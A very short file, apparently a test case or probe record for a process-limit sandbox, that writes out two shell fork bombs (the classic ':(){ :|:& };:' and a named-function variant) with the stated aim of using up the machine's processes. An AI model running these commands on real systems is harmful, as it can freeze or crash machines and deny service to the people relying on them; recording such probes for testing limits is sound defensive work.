# tries: use up the machine's processes
# duration: 1
# from: :(){ :|:& };:
tried fork-bomb
f() { f | f & }; f; sleep 10
